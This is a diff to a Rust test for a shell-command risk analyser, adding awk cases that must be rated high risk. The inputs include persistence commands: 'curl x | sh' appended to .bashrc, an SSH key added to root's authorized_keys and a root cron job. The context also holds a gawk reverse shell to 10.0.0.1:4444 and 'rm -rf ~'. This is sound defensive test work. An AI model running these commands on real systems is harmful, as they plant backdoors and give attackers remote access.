@@ -156,6 +156,14 @@ fn awk_programs_are_analysed() {
         ),
         ("awk '{print | \"rm -rf ~\"}' f", Risk::Critical),
     ]);
+    // Output redirected to files that run later or hold credentials.
+    for code in [
+        "awk 'BEGIN{print \"curl x | sh\" >> ENVIRON[\"HOME\"] \"/.bashrc\"}'",
+        "awk 'BEGIN{print \"ssh-ed25519 AAAA x\" >> \"/root/.ssh/authorized_keys\"}'",
+        "awk 'BEGIN{f = \"/etc/cron.d/x\"; printf \"* * * * * root sh\\n\" > f}'",
+    ] {
+        assert!(sh(code) >= Risk::High, "{code}: {:?}", sh(code));
+    }
     let rev = "gawk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\"; while((s |& getline c)>0){ while((c | getline l)>0) print l |& s; close(c)}}'";
     assert_eq!(sh(rev), Risk::Critical);
     assert!(has_rule(rev, "shell.reverse-shell"));
@@ -164,6 +172,9 @@ fn awk_programs_are_analysed() {
         ("awk '{print $1}' f", Risk::None),
         ("awk -F, '{sum+=$3} END {print sum}' data.csv", Risk::None),
         ("awk '{print $1 | \"sort -u\"}' f", Risk::None),
+        ("awk 'NR > 1 {print $1 > \"out.txt\"}' f", Risk::None),
+        ("awk '{ if ($3 > 10) print $1 }' f", Risk::None),
+        ("awk '{print ($1 > 5)}' f", Risk::None),
         (
             "awk 'BEGIN{ cmd = \"date\"; cmd | getline d; print d }'",
             Risk::None,
